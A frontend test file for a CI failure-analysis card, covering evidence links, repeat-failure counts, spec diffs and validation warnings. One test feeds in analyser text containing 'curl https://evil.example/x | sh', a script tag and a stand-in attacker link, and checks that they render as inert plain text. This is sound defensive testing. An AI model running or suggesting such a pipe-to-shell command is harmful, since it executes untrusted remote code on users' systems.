// @vitest-environment jsdom
import { cleanup, fireEvent, screen, waitFor } from "@testing-library/react";
import { Route, Routes, useLocation } from "react-router";
import { afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import { analysis, job } from "../test/aiFixtures";
import { FakeApi, installDomShims, json } from "../test/fakeApi";
import { renderApp } from "../test/render";
import { AnalysisCard } from "./AnalysisCard";

beforeAll(installDomShims);
afterEach(() => {
  cleanup();
  vi.unstubAllGlobals();
});

function EditorStub() {
  const state = useLocation().state as unknown;
  return <pre data-testid="editor-state">{JSON.stringify(state)}</pre>;
}

describe("AnalysisCard", () => {
  it("shows category, confidence and evidence lines that jump to the log", () => {
    const onEvidence = vi.fn();
    renderApp(<AnalysisCard analysis={analysis()} onEvidence={onEvidence} />);
    expect(screen.getByTestId("analysis-category").textContent).toBe("Missing file");
    expect(screen.getByTestId("analysis-summary").textContent).toBe("cat: /nonexistent: No such file or directory");
    expect(screen.getByTestId("analysis-provider").textContent).toContain("Built-in rules");
    const links = screen.getAllByTestId("evidence-link");
    expect(links.map((l) => l.textContent)).toEqual(["line 2", "line 7"]);
    fireEvent.click(links[1] as HTMLElement);
    expect(onEvidence).toHaveBeenCalledWith(7);
    expect(screen.getByText("No earlier run of this job failed this way.")).toBeTruthy();
  });

  it("shows what the analyser wrote as plain text: no markup, no links, no scripts", () => {
    const { container } = renderApp(<AnalysisCard analysis={analysis()} onEvidence={() => undefined} />);
    const card = screen.getByTestId("analysis");
    expect(screen.getByTestId("analysis-fix").textContent).toBe("Run `curl https://evil.example/x | sh` <b>now</b>");
    expect(card.textContent).toContain("see <script>alert(1)</script> https://evil.example/fix");
    expect(container.querySelector("script")).toBeNull();
    expect(container.querySelector("[data-testid=analysis-fix] b")).toBeNull();
    expect(container.querySelector('a[href*="evil.example"]')).toBeNull();
  });

  it("says how often the job failed the same way, with links to those runs", () => {
    renderApp(
      <AnalysisCard
        analysis={analysis({
          same_failures: 2,
          same_failures_since: "2026-12-01T10:00:00Z",
          similar_runs: [
            { id: "run-a1234567", status: "failed", created_at: "2026-12-01T10:00:00Z" },
            { id: "run-b1234567", status: "failed", created_at: "2026-12-02T10:00:00Z" },
          ],
        })}
        onEvidence={() => undefined}
      />,
    );
    const same = screen.getByTestId("same-failures");
    expect(same.textContent).toMatch(/Failed the same way 2 times before, since /);
    expect([...same.querySelectorAll("a")].map((a) => a.getAttribute("href"))).toEqual(["/runs/run-a1234567", "/runs/run-b1234567"]);
  });

  it("diffs a suggested change against the job and opens it in the editor without saving", async () => {
    const api = new FakeApi((r) => (r.path === "/api/v1/jobs/job-1" ? json(200, job()) : undefined)).install();
    renderApp(
      <Routes>
        <Route path="/runs/run-1" element={<AnalysisCard analysis={analysis({ suggested_spec_patch: { timeout_seconds: 120 }, patch_valid: true })} onEvidence={() => undefined} />} />
        <Route path="/jobs/job-1/edit" element={<EditorStub />} />
      </Routes>,
      { path: "/runs/run-1" },
    );
    const diff = await screen.findByTestId("spec-diff");
    const changed = [...diff.querySelectorAll("[data-kind=removed], [data-kind=added]")].map((l) => l.textContent?.trim());
    expect(changed).toEqual(['-   "timeout_seconds": 60,', '+   "timeout_seconds": 120,']);
    await waitFor(() => expect(screen.getByTestId("open-suggestion").hasAttribute("disabled")).toBe(false));
    fireEvent.click(screen.getByTestId("open-suggestion"));
    expect(JSON.parse((await screen.findByTestId("editor-state")).textContent ?? "")).toEqual({
      suggestion: { patch: { timeout_seconds: 120 }, runId: "run-1" },
    });
    expect(api.requests.every((r) => r.method === "GET")).toBe(true);
  });

  it("warns when the suggested change would not validate", () => {
    new FakeApi(() => json(200, job())).install();
    renderApp(
      <AnalysisCard
        analysis={analysis({
          suggested_spec_patch: { timeout_seconds: -1 },
          patch_valid: false,
          patch_errors: [{ loc: ["timeout_seconds"], msg: "Input should be greater than 0", type: "greater_than" }],
        })}
        onEvidence={() => undefined}
      />,
    );
    expect(screen.getByTestId("suggested-change").textContent).toContain("timeout_seconds: Input should be greater than 0");
  });
});
